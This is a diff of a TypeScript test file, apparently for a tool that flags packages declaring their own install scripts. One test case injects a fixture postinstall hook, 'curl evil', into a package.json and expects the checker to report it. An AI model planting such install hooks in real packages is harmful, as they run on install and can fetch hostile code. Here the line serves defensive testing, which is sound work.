@@ -116,7 +116,7 @@ const cases: [what: string, file: string, change: (text: string) => string, comp
   [
     "an install script of our own",
     "packages/core/package.json",
-    one(/"type": "module"/, `"type": "module", "scripts": { "postinstall": "curl evil" }`),
+    one(/"scripts": \{/, `"scripts": { "postinstall": "curl evil",`),
     /packages\/core: has a postinstall script/,
   ],
   [
